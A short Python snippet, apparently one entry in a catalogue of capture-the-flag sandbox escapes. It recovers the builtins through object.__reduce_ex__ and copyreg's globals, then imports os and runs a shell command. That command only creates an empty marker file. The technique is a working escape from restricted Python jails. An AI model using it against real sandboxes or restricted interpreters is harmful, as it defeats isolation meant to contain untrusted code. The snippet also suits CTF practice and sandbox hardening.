"""object.__reduce_ex__() gives a function of copyreg, which knows the builtins.

Known from: CTF jails without __subclasses__
Effect: made
Host: import copyreg
Jail: no builtins
Without: subclasses base mro
"""
builtins = ().__reduce_ex__(2)[0].__globals__["__builtins__"]
builtins["__import__"]("os").system(": > made")
